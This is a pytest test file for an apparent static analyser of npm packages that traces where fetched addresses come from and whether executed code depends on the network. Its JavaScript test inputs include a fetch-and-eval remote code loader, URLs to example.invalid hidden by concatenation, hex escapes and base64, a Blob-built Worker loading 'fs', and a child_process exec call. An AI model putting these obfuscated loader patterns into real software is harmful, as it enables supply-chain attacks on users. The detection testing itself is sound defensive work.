"""Whose address a script asks, and what a worker is handed, is told by the flows."""

import pytest
from program_of import program_of

from ostiary.program.flow import CALLER, PAGE_WORKER, Act, Taint

RUN = "const run = async (where) => eval(await (await fetch(where)).text());\n"


def _targets(text: str, more: dict[str, str] | None = None) -> set[str]:
    program = program_of("npm", {"index.js": text, **(more or {})})
    return {one.target for one in program.flows if one.act is Act.SEND}


def _executed(text: str) -> list[tuple[str, bool]]:
    program = program_of("npm", {"index.js": text})
    return [(one.target, one.has(Taint.NETWORK)) for one in program.flows if one.act is Act.EXECUTE]


def test_an_address_that_only_a_caller_knows_is_the_callers() -> None:
    assert _targets(RUN + "exports.run = run;\n") == {CALLER}
    assert _executed(RUN + "exports.run = run;\n") == [("", False)]


@pytest.mark.parametrize(
    "rest",
    [
        "exports.go = () => run('https://files.example.invalid/');",
        "exports.go = () => run('ht' + 'tps://files.example.invalid/');",
        "exports.go = () => run('\\x68ttps://files.example.invalid/');",
        "exports.go = (n) => run(`//files.example.invalid/${n}`);",
        "const from = 'https://'; exports.go = (n) => run(from + n);",
        "run(globalThis.where);",
        "run(atob('aHR0cHM6Ly9maWxlcy5leGFtcGxlLmludmFsaWQv'));",
    ],
)
def test_where_the_file_could_hand_it_in_it_is_nobodys(rest: str) -> None:
    assert CALLER not in _targets(RUN + rest)
    assert True in [network for _, network in _executed(RUN + rest)]


def test_a_file_that_imports_it_could_hand_it_in() -> None:
    lib = {"run.js": "exports.run = run;\n" + RUN}
    plain = "const { run } = require('./run');\nexports.go = (where) => run(where);\n"
    assert _targets(plain, lib) == {CALLER}
    with_address = plain.replace("(where) => run(where)", "() => run('https://a.example.invalid')")
    assert CALLER not in _targets(with_address, lib)


def test_a_path_is_the_pages_own_and_what_looks_like_one_is_not() -> None:
    assert _targets("exports.a = () => fetch('/api/list');\n") == {"/api/list"}
    for other in ("'//b.example.invalid'", "'/' + self.name", "'/\\\\b.example.invalid'"):
        found = _targets(f"exports.a = () => fetch({other} + '/x');\n")
        assert not any(one.startswith("/a") or one == CALLER for one in found)


def test_a_worker_of_a_page_is_read_as_a_layer() -> None:
    parts = "[atob('cmVxdWlyZSgnZnMn'), ').a()']"
    text = f"exports.a = () => new Worker(URL.createObjectURL(new Blob({parts})));\n"
    assert _executed(text) == [(PAGE_WORKER, False)]
    hidden = text.replace("').a()'", "').a(' + self.name + ')'")
    assert _executed(hidden) == [("", False)]


def test_a_function_knows_itself_by_its_own_name() -> None:
    text = (
        "const cp = require('child_process');\n"
        "exports.x = (e) => { const f = function e() { cp.exec(e.toString()); }; f(); };\n"
    )
    program = program_of("npm", {"index.js": text})
    (run,) = [one for one in program.flows if one.act is Act.RUN]
    assert "function e()" in run.text
